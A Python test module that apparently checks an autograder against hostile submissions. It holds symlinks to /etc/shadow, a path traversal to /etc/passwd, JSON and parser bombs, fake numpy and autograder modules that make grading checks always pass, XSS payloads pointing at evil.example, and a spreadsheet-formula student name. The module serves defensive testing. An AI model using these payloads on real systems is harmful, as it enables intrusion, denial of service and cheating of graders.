"""Attacks by what is handed in: odd files, files that cannot be read, markup, names."""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path

from tests.attacks.cases import Case, in_cell, of_bytes, of_folder, submit
from tests.attacks.lesson import ANSWERS, POINTS, Notebook, find, work
from tests.course_factory import NAME

NOTEBOOK = f"{NAME}.ipynb"
EVIL_NAME = "=cmd|' calc'!A0"
GOOD = json.dumps(work(ANSWERS["target"])).encode()
LINK_TARGET = "00-honest"


def _in_its_place(folder: Path) -> Path:
    path = folder / NOTEBOOK
    path.unlink()
    return path


def _pipe(folder: Path) -> None:
    os.mkfifo(_in_its_place(folder))


def _socket(folder: Path) -> None:
    server = socket.socket(socket.AF_UNIX)
    home = os.open(folder.parent, os.O_RDONLY)  # a socket's path may be no longer than 108 bytes
    try:
        _in_its_place(folder)
        server.bind(f"/proc/self/fd/{home}/{NAME}/{NOTEBOOK}")
    finally:
        os.close(home)
        server.close()


def _device(folder: Path) -> None:
    path = _in_its_place(folder)
    if os.geteuid() == 0:
        os.mknod(path, 0o20666, os.makedev(1, 5))  # /dev/zero has no end
    else:
        path.symlink_to("/dev/zero")


def _link(folder: Path) -> None:
    _in_its_place(folder).symlink_to(f"../../{LINK_TARGET}/{NAME}/{NOTEBOOK}")


def _linked_folder(folder: Path) -> None:
    _in_its_place(folder)
    folder.rmdir()
    folder.symlink_to(f"../{LINK_TARGET}/{NAME}")


def _linked_student(folder: Path) -> None:
    _in_its_place(folder)
    folder.rmdir()
    folder.parent.rmdir()
    folder.parent.symlink_to(LINK_TARGET)


def _links_beside(folder: Path) -> None:
    (folder / "key").symlink_to("/etc/shadow")
    (folder / "root").symlink_to("/")
    (folder / "loop").symlink_to("loop")


def _deep(folder: Path) -> None:
    here = os.open(folder, os.O_RDONLY)
    for _ in range(1500):  # deeper than any path may be long
        os.mkdir("a", dir_fd=here)
        below = os.open("a", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def _shadows(folder: Path) -> None:
    lies = "allclose = lambda *a, **k: True\nrelative_error = lambda *a: 0.0\n"
    for name in ("numpy", "coursekit", "json", "autograder", "sitecustomize", "msgpack", "IPython"):
        (folder / f"{name}.py").write_text(lies + "def __getattr__(name): return lambda *a, **k: True\n")


def _timestamp(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("999999999999999999999999999999h/-Jan")


def _zone(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("2026-11-01 12:00:00 ../../../../etc/passwd")


def _sparse(folder: Path) -> None:
    with open(folder / NOTEBOOK, "wb") as file:
        file.truncate(1 << 30)  # a gigabyte that takes no room


def _source(text: str) -> bytes:
    return json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": text, "metadata": {}}]}).encode()


UNREADABLE = {
    (44, "deep JSON"): b"[" * 100_000 + b"]" * 100_000,
    (44, "deep objects"): b'{"a":' * 100_000,
    (44, "two million values"): b"[" + b"1," * 2_000_001 + b"1]",
    (44, "too many cells"): b'{"nbformat": 4, "cells": [' + b"{}," * 2001 + b"{}]}",
    (44, "a long number"): b'{"nbformat": ' + b"9" * 100_000 + b"}",
    (44, "a zip"): b"PK\x03\x04" + bytes(range(128, 256)) * 40,
    (45, "not JSON"): b"hello",
    (45, "truncated"): GOOD[: len(GOOD) // 2],
    (45, "empty"): b"",
    (45, "nbformat 3"): b'{"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": []}], "metadata": {}}',
    (45, "null bytes"): b"\x00" * 1000,
    (45, "null in a cell"): _source("a\0b"),
    (45, "lone surrogates"): GOOD.replace(b"Because", b"\\ud83d"),
    (45, "nan"): b'{"nbformat": 4, "cells": [], "metadata": {"x": NaN}}',
}
FOLDERS = {
    (42, "pipe"): _pipe,
    (42, "socket"): _socket,
    (42, "device"): _device,
    (42, "link to another's work"): _link,
    (42, "folder that is a link"): _linked_folder,
    (42, "student that is a link"): _linked_student,
    (44, "one gigabyte"): _sparse,
}
BESIDE = {
    (23, "numpy.py handed in"): _shadows,
    (42, "links beside the notebook"): _links_beside,
    (42, "1500 folders deep"): _deep,
    (45, "a timestamp that is no time"): _timestamp,
    (45, "a time zone that is a file"): _zone,
}
# Code that nobody should read for long, or at all.
SOURCES = {
    "a cell of 3 MB": "x = 1\n" * 500_000,
    "signs": "y = " + "-" * 50_000 + "1",
    "lambdas": "y = " + "lambda:" * 3000 + "1",
    "a sum": "y = 1" + "+1" * 2500,
    "attributes": "y = a" + ".b" * 2500,
    "brackets": "y = " + "(" * 5000,
    "600 magics": "!ls\n" * 600,
    "600 magics of the other kind": ",print a\n" * 600,
}
# No Python, though it parses: the cell defines nothing.
NO_PYTHON = {
    "two parameters of one name": "def more(x, x):\n    return x",
    "a global parameter": "def more(x):\n    global x",
    "a name that is nowhere": "def more():\n    nonlocal q\n    q = 1",
    "a star within a function": "def more():\n    from math import *",
    "a future that never comes": "from __future__ import nope",
    "a walrus in the way": "y = [i := 0 for i in range(3)]",
    "a number of 5000 digits": "y = 0x" + "f" * 5000,
}
MARKUP = [
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1><circle/></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:pwned=1'>click</a> [click](javascript:pwned=1) [data](data:text/html,<script>1</script>)",
    "<style>*{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input></form><base href=//evil.example><object data=//evil.example></object>",
    "</pre></section></main><script>pwned=1</script><math><mtext></p><style><img src=x onerror=pwned=1></style>",
]
SHOW = (
    "from IPython.display import display\nfor text in {markup!r}:\n"
    "    for kind in ('html', 'markdown', 'latex', 'svg+xml', 'plain'):\n"
    '        mime = f\'{{"image" if "svg" in kind else "text"}}/{{kind}}\'\n'
    "        display({{mime: text, 'text/plain': text}}, raw=True)\n"
    "    print(text)\ndisplay({{'application/javascript': 'pwned=1', 'image/png': '\"><script>'}}, raw=True)"
)


def _marked_up() -> Notebook:
    text = "\n\n".join(MARKUP)
    show = SHOW.format(markup=MARKUP)
    return work(f"{ANSWERS['target']}\n# {text!r}", show + f"\nraise ValueError({text!r})", written=text)


def cases() -> Iterator[Case]:
    for (row, name), data in UNREADABLE.items():
        yield of_bytes(row, name, data)
    for (row, name), change in FOLDERS.items():
        yield of_folder(row, name, change, first=0.0, last=0.0)
    for (row, name), change in BESIDE.items():
        yield of_folder(row, name, change)
    for name, source in SOURCES.items():
        yield in_cell(44, name, f"def target(x):\n    return -x\n{source}")
    for name, source in NO_PYTHON.items():
        yield in_cell(45, name, ANSWERS["target"], source, target=POINTS["target"])
    yield Case(44, "one picture 300 times", _amplified, "an edited notebook", target=POINTS["target"])
    yield Case(46, "markup", lambda root, student: _put(root, student), "code in a cell", target=POINTS["target"])
    yield _named()


def _amplified(root: Path, student: str) -> None:
    notebook = work(ANSWERS["target"], written="![a](attachment:a.png)\n" * 300)
    find(notebook, "written")["attachments"] = {"a.png": {"image/png": "A" * 400_000}}
    submit(root, student, notebook)


def _put(root: Path, student: str) -> None:
    submit(root, student, _marked_up())


def _named() -> Case:
    """The student's name is the attack."""

    class Named(Case):
        @property
        def student(self) -> str:
            return EVIL_NAME

    def hand_in(root: Path, student: str) -> None:
        submit(root, student, work(ANSWERS["target"]))

    return Named(47, "a name that is a formula", hand_in, "files", target=POINTS["target"])
